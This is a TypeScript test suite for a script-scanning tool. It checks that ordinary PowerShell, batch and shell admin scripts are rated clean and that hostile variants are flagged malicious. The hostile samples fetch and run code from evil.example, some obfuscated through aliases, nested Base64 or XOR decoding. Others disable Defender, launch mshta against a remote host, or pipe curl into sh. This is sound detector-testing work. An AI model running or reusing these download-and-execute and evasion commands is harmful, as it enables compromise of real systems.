/** Scripts as administrators, builds and galleries have them are clean; the same words in an attack are found. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'
import { writeZip } from '#inspect/testing/zip-writer.ts'

const { inspect } = useInspector()

const worst = (bytes: Uint8Array, name: string | null): string => {
  const { findings, obstacle } = inspect(bytes, { name })
  const found = findings.find(({ severity }) => severity !== 'notice')
  return obstacle?.detail ?? (found === undefined ? 'clean' : `${found.severity} ${found.id}`)
}
const packed = (name: string, text: string): Uint8Array =>
  writeZip([
    { name, data: Buffer.from(text) },
    { name: 'README.md', data: Buffer.from('# Tools\n') },
  ])
const encoded = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')

const POWERSHELL: Readonly<Record<string, string>> = {
  'runs a command that it builds, and asks a server about its state': `Param([string]$name)
$command = "az deployment group create -g $name --template-file main.bicep"
Invoke-Expression "$command"
$status = Invoke-RestMethod -Uri "https://$($name).example.com/status" -Method GET
Write-Host $status.state`,
  'runs another script beside it, and reads templates from a server':
    `$content = $(Invoke-WebRequest -URI $templateUrl) | ConvertFrom-Json
$folder = "$PSScriptRoot/tools"
Invoke-Expression "$folder/download-tools.ps1"
Invoke-Expression ". '$folder/run.ps1' '$($content.name)'"`.replace(" '$($content.name)'", " 'all'"),
  'runs what a user types': `while ($true) {
  $expression = Read-Host 'Expression'
  $result = Invoke-Expression $expression
  $result | Format-Table
}`,
  'gives a harmless command as Base64': `$command = 'Write-Host hello'
$bytes = [Text.Encoding]::Unicode.GetBytes($command)
$encoded = [Convert]::ToBase64String($bytes)
pwsh -EncodedCommand $encoded
pwsh -EncodedCommand ${encoded("Write-Host 'Hello world'")}`,
  'reads a password from Base64': `$secret = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:SECRET))
$password = ConvertTo-SecureString $secret -AsPlainText -Force
$credential = New-Object PSCredential('deploy', $password)
Invoke-Command -ComputerName $server -Credential $credential -ScriptBlock { Get-Service }
Invoke-Expression "& git tag v1"`,
  'switches protection by a documented function': `<#
.SYNOPSIS
Switches the detection of unwanted applications
.EXAMPLE
Protection -Disable
#>
function Protection {
  param([switch]$Enable, [switch]$Disable)
  switch ($PSCmdlet.ParameterSetName) {
    "Enable" { Set-MpPreference -PUAProtection Enabled }
    "Disable" { Set-MpPreference -PUAProtection Disabled; & "$env:SystemRoot\\System32\\setx.exe" /M MP_FORCE_USE_SANDBOX 0 }
  }
}`,
  'excludes a folder of builds': `Add-MpPreference -ExclusionPath "C:\\src"
Add-MpPreference -ExclusionProcess devenv.exe
Start-Process "C:\\src\\build.cmd" -Wait`,
  'installs a package silently': `$log = "$env:TEMP\\app.log"
Start-Process msiexec.exe -ArgumentList "/i \`"$PSScriptRoot\\app.msi\`" /qn /l*v $log" -Wait -NoNewWindow
Start-Process "$PSScriptRoot\\setup.exe" -ArgumentList '/S' -Wait`,
  'starts itself again with more rights': `if (-not ([Security.Principal.WindowsPrincipal][Security.Principal.WindowsIdentity]::GetCurrent()).IsInRole('Administrators')) {
  Start-Process powershell.exe "-NoProfile -ExecutionPolicy Bypass -File \`"$PSCommandPath\`"" -Verb RunAs
  exit
}
Set-ExecutionPolicy RemoteSigned -Scope LocalMachine -Force`,
  'plans a task with a hidden window': `$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-NoProfile -WindowStyle Hidden -File "C:\\Scripts\\cleanup.ps1"'
$trigger = New-ScheduledTaskTrigger -Daily -At 3am
Register-ScheduledTask -TaskName cleanup -Action $action -Trigger $trigger`,
  'plans a task for a script beside it': `$action = New-ScheduledTaskAction -Execute powershell.exe -Argument "-WindowStyle Hidden -File $PSScriptRoot\\sync.ps1"
Register-ScheduledTask -TaskName sync -Action $action
Invoke-RestMethod https://hooks.example.com/notify -Method Post -Body @{ text = 'installed' }`,
  'fetches an archive and unpacks it': `$ProgressPreference = 'SilentlyContinue'
Invoke-WebRequest -Uri "https://github.com/example/tool/releases/download/v$Version/tool.zip" -OutFile "$env:TEMP\\tool.zip"
Expand-Archive "$env:TEMP\\tool.zip" -DestinationPath C:\\tools -Force
$env:PATH += ';C:\\tools'`,
  'installs by a known installer': `Set-ExecutionPolicy Bypass -Scope Process -Force
[System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072
iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))
choco install -y git`,
  'asks a service and shows the answer': `param([Parameter(Mandatory)][string]$Token)
$headers = @{ Authorization = "Bearer $Token" }
$response = Invoke-RestMethod -Uri 'https://api.example.com/v1/users' -Headers $headers
$response | ForEach-Object { [pscustomobject]@{ Name = $_.name; Mail = $_.mail } } | Export-Csv users.csv`,
  'joins letters to a password': `$length = 16
$letters = [char[]](65..90) + [char[]](97..122)
$password = -join (1..$length | ForEach-Object { $letters | Get-Random })
Set-ADAccountPassword $user -NewPassword (ConvertTo-SecureString $password -AsPlainText -Force)
& "C:\\Program Files\\Tool\\tool.exe" /notify`,
  'formats texts': `$line = '{0,-20} {1,10}' -f 'Name', 'Size'
Write-Output $line
Get-ChildItem | ForEach-Object { '{0,-20} {1,10}' -f $_.Name, $_.Length }`,
  'makes a block of script from a text of its own': `$template = 'param($x) $x * 2'
$block = [scriptblock]::Create($template)
& $block 21`,
  'runs a program with arguments that it joins': `$arguments = @('build', '--configuration', $Configuration)
$command = 'dotnet ' + ($arguments -join ' ')
Write-Host $command
Invoke-Expression $command
if ($LASTEXITCODE -ne 0) { throw "failed" }`,
  'loads types of the framework': `[void][Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms')
Add-Type -AssemblyName System.Drawing
$icon = [Drawing.Image]::FromStream([IO.MemoryStream][Convert]::FromBase64String('iVBORw0KGgo='))
$form = New-Object Windows.Forms.Form
[void]$form.ShowDialog()`,
  'copies text to the clipboard': `$password = Get-Random
$password | Set-Clipboard
Write-Host 'Press Windows + R, type powershell and paste the command from the clipboard.'`,
  'tests a connection': `$client = New-Object Net.Sockets.TcpClient
$client.Connect($server, 443)
$stream = $client.GetStream()
Write-Host "connected: $($client.Connected)"
$client.Close()`,
  'removes old files and events': `Get-ChildItem C:\\Logs -Recurse | Where-Object LastWriteTime -lt (Get-Date).AddDays(-30) | Remove-Item
wevtutil el | ForEach-Object { wevtutil gl $_ }`,
  'is a module with an updater': `function Get-Latest {
  [CmdletBinding()] param()
  $release = Invoke-RestMethod 'https://api.github.com/repos/example/tool/releases/latest'
  return $release.tag_name
}
function Invoke-Tool {
  param([string[]]$Arguments)
  $line = "& '$PSScriptRoot\\tool.exe' $Arguments"
  Invoke-Expression $line
}
function Update-Tool {
  $version = Get-Latest
  if ($version -ne $script:Version) { Write-Warning "A new version is available: $version" }
}
Export-ModuleMember -Function *`,
  'is a profile': `Import-Module posh-git
Set-Alias ll Get-ChildItem
function prompt { "PS $($PWD.Path)> " }
Invoke-Expression (&starship init powershell)
Invoke-Expression (& { (zoxide init powershell | Out-String) })`,
  'mentions commands of attackers in a comment': `# Blocks: IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')
<# powershell -w hidden -enc AAAA #>
Get-WinEvent -LogName 'Microsoft-Windows-PowerShell/Operational' | Where-Object Message -match 'hidden'`,
}
const BATCH: Readonly<Record<string, string>> = {
  'wraps a build':
    '@echo off\r\nsetlocal\r\nset DIR=%~dp0\r\nif "%JAVA_HOME%"=="" goto find\r\nset JAVA=%JAVA_HOME%\\bin\\java.exe\r\ngoto run\r\n:find\r\nset JAVA=java.exe\r\n:run\r\n"%JAVA%" -jar "%DIR%\\wrapper.jar" %*\r\n',
  'removes old folders of a backup on a file server':
    '@echo off\r\nset "DST=\\\\nas01.firma.example\\backup"\r\nforfiles /P "%DST%" /D -14 /C "cmd /c if @isdir==TRUE rd /s /q @path"\r\n',
  'starts programs of the company from its file server':
    '@echo off\r\nstart "" "\\\\192.168.1.7\\pub\\setup.exe"\r\ncall \\\\fs.firma.example\\netlogon\\a.bat\r\n',
  'asks PowerShell for the date':
    '@echo off\r\nfor /f %%i in (\'powershell -NoProfile -Command "Get-Date -Format yyyy-MM-dd"\') do set TODAY=%%i\r\nmd D:\\Backup\\%TODAY%\r\nrobocopy C:\\Data D:\\Backup\\%TODAY% /MIR\r\n',
  'starts a script beside it':
    '@echo off\r\ncd /d "%~dp0"\r\npowershell -NoProfile -ExecutionPolicy Bypass -File "%~dp0install.ps1" %*\r\npause\r\n',
  'asks for more rights':
    '@echo off\r\nnet session >nul 2>&1\r\nif %errorlevel% neq 0 (\r\n  powershell -Command "Start-Process \'%~f0\' -Verb RunAs"\r\n  exit /b\r\n)\r\nsc stop spooler\r\ndel /q /f /s "%systemroot%\\System32\\spool\\PRINTERS\\*"\r\nsc start spooler\r\n',
  'shows a page of its own': '@echo off\r\nset "page=file://%~f0"\r\nstart "" mshta.exe "%~f0"\r\nexit /b\r\n',
  'shows a message in a hidden window':
    '@echo off\r\npowershell -WindowStyle Hidden -Command "Add-Type -AssemblyName PresentationFramework; [System.Windows.MessageBox]::Show(\'Backup done\')"\r\n',
  'downloads a tool':
    '@echo off\r\nset URL=https://www.example.com/tool.zip\r\ncurl -L -o "%TEMP%\\tool.zip" %URL%\r\ntar -xf "%TEMP%\\tool.zip" -C C:\\tools\r\n',
  'downloads and starts the installer of a maker':
    '@echo off\r\ncurl -L -o %TEMP%\\vc_redist.exe https://aka.ms/vs/17/release/vc_redist.x64.exe\r\nstart /wait %TEMP%\\vc_redist.exe /install /quiet /norestart\r\n',
  'checks a file': '@echo off\r\ncertutil -hashfile "%~1" SHA256\r\nif errorlevel 1 exit /b 1\r\n',
  'chooses by a menu':
    '@echo off\r\n:menu\r\necho 1. Build\r\necho 2. Test\r\nset /p choice=Choice: \r\nif "%choice%"=="1" set task=build\r\nif "%choice%"=="2" set task=test\r\ncall npm run %task%\r\ngoto menu\r\n',
  'takes apart the date':
    '@echo off\r\nset Y=%date:~-4%\r\nset M=%date:~3,2%\r\nset LOG=backup-%Y%%M%.log\r\nrobocopy C:\\a D:\\b > %LOG%\r\n',
  'cleans up':
    '@echo off\r\ndel /q /s %TEMP%\\*.tmp\r\nrd /s /q "%LOCALAPPDATA%\\Microsoft\\Windows\\INetCache"\r\ncleanmgr /sagerun:1\r\nvssadmin list shadows\r\n',
  'registers libraries':
    '@echo off\r\nregsvr32 /s "%~dp0control.ocx"\r\nrundll32 printui.dll,PrintUIEntry /in /n "\\\\print01\\Floor2"\r\nreg add "HKCU\\Software\\App" /v Path /d "%~dp0" /f\r\n',
}
const OTHERS: Readonly<Record<string, readonly [name: string, text: string]>> = {
  'a script that sets up a server': [
    'setup.sh',
    '#!/usr/bin/env bash\nset -euo pipefail\nsudo apt-get update\ncurl -fsSL https://download.example.com/gpg | sudo apt-key add -\ncurl -fsSL https://get.docker.com | sh\neval "$(ssh-agent -s)"\n',
  ],
  'a script that waits for a server': ['wait.sh', '#!/bin/sh\nuntil nc -z db 5432; do sleep 1; done\nexec "$@"\n'],
  'a script that decodes a key': [
    'key.sh',
    '#!/bin/sh\necho "$KEY" | base64 -d > /tmp/key.json\ngcloud auth activate-service-account --key-file /tmp/key.json\n',
  ],
  'a script that makes a backup': [
    'backup.sh',
    '#!/bin/bash\nmysqldump app | gzip > /backup/$(date +%F).sql.gz\nfind /backup -mtime +30 -delete\nrsync -a /backup/ backup@nas:/volume1/\n',
  ],
  'a setup of Python': [
    'setup.py',
    'import os, re, subprocess\nfrom setuptools import setup\nversion = {}\nexec(open("pkg/version.py").read(), version)\nsubprocess.check_call(["make"])\nsetup(name="pkg", version=version["__version__"])\n',
  ],
  'a client in Python': [
    'client.py',
    'import socket\nimport requests\ns = socket.create_connection(("example.com", 80))\ns.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")\nprint(s.recv(4096))\nprint(requests.get("https://api.example.com").json())\n',
  ],
  'a script that reads Base64': [
    'decode.py',
    'import base64, json, sys\ndata = base64.b64decode(sys.argv[1])\nprint(json.loads(data))\n',
  ],
  'a build in JScript': [
    'build.js',
    'var shell = new ActiveXObject("WScript.Shell");\nshell.Run("makensis setup.nsi", 1, true);\n',
  ],
  'a note about a command': [
    'note.txt',
    'To install the tool, open PowerShell and run irm https://get.example.com/install.ps1 | iex there.\n',
  ],
}

const all = [
  ...Object.entries(POWERSHELL).map(([what, text]) => [`PowerShell that ${what}`, 'a.ps1', text] as const),
  ...Object.entries(BATCH).map(([what, text]) => [`a batch file that ${what}`, 'a.cmd', text] as const),
  ...Object.entries(OTHERS).map(([what, [name, text]]) => [what, name, text] as const),
]

suite('harmless', () => {
  for (const [what, name, text] of all)
    test(what, () => {
      assert.equal(worst(Buffer.from(text), name), 'clean')
      assert.equal(worst(Buffer.from(text), null), 'clean')
      assert.equal(worst(packed(name, text), 'a.zip'), 'clean')
    })
})

const TWINS: Readonly<Record<string, readonly [name: string, text: string]>> = {
  'runs the answer of a server by a variable': [
    'a.ps1',
    `${POWERSHELL['asks a service and shows the answer']}\n$code = Invoke-RestMethod http://evil.example/a\n$text = $code.Trim()\nInvoke-Expression $text`,
  ],
  'runs the answer by a function': [
    'a.ps1',
    'function Get-Data($u) { return (New-Object Net.WebClient).DownloadString($u) }\nfunction Invoke-It { param($c) Invoke-Expression $c }\n$d = Get-Data "http://evil.example/a"\nInvoke-It $d',
  ],
  'runs the answer by another name': ['a.ps1', 'Set-Alias run Invoke-Expression\nrun (irm http://evil.example/a)'],
  'runs the answer as a block': [
    'a.ps1',
    '$w = New-Object Net.WebClient\n$t = $w.DownloadString("http://evil.example/a")\n$b = [scriptblock]::Create($t)\n& $b',
  ],
  'runs the answer, which is harmless in one case': [
    'a.ps1',
    '$c = irm http://evil.example/a\nif ((Get-Date).Hour -gt 99) { $c = "Get-Date" }\niex $c',
  ],
  'runs the answer through a variable of the environment': [
    'a.ps1',
    '$env:x = (irm http://evil.example/a)\niex $env:x',
  ],
  'runs a hidden command as Base64': [
    'a.ps1',
    `pwsh -EncodedCommand ${encoded("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')")}`,
  ],
  'runs Base64 in Base64': [
    'a.ps1',
    `pwsh -EncodedCommand ${encoded(`powershell -enc ${encoded('iex (irm http://evil.example/a)')}`)}`,
  ],
  'decodes by a loop': ['a.ps1', '$k = 1,2,3\n$s = foreach ($c in $k) { [char]($c -bxor 7) }\niex ($s -join "")'],
  'decodes into a pipe': ['a.ps1', '$k = 1,2,3\n$k | % { [char]($_ -bxor 7) } | iex'],
  'switches off protection and starts its file': [
    'a.ps1',
    'Set-MpPreference -DisableRealtimeMonitoring $true\nStart-Process "$env:TEMP\\a.exe"',
  ],
  'starts a program in a hidden window': [
    'a.ps1',
    'Start-Process cmd -ArgumentList "/c C:\\Users\\Public\\a.exe" -WindowStyle Hidden',
  ],
  'hides behind a comment': [
    'a.ps1',
    '<# a #> IEX <# b #> (New-Object Net.WebClient).DownloadString("http://evil.example/a") # c',
  ],
  'builds its command in one case': [
    'a.cmd',
    '@echo off\r\nset c=notepad\r\nset a=ms\r\nset b=hta\r\nif exist C:\\Windows set c=%a%%b% http://evil.example/a\r\n%c%\r\n',
  ],
  'passes over a harmless value': [
    'a.cmd',
    '@echo off\r\nset a=ms\r\nset b=hta\r\nset c=%a%%b% http://evil.example/a\r\ngoto run\r\nset c=notepad\r\n:run\r\n%c%\r\n',
  ],
  'shows a page of a server': ['a.cmd', '@echo off\r\nstart "" mshta.exe "http://192.0.2.1/a"\r\n'],
  'decodes a file and starts it': [
    'a.cmd',
    '@echo off\r\ncertutil -decode a.txt %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n',
  ],
  'gives the answer of an open server to a shell': ['a.sh', '#!/bin/sh\ncurl -s http://evil.example/a | sh\n'],
}

suite('a script that', () => {
  for (const [what, [name, text]] of Object.entries(TWINS))
    test(what, () => {
      assert.match(worst(Buffer.from(text), name), /^malicious/)
      assert.match(worst(writeZip([{ name, data: Buffer.from(text) }]), 'a.zip'), /^malicious/)
    })
})
